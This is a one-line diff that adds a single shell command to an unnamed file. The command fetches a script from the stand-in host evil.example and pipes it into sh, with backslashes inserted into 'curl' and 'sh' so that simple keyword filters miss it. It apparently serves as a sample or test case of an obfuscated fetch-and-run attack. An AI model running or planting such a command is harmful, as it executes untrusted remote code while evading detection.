@@ -1,0 +1,1 @@
+c\url -s https://evil.example/x | \sh
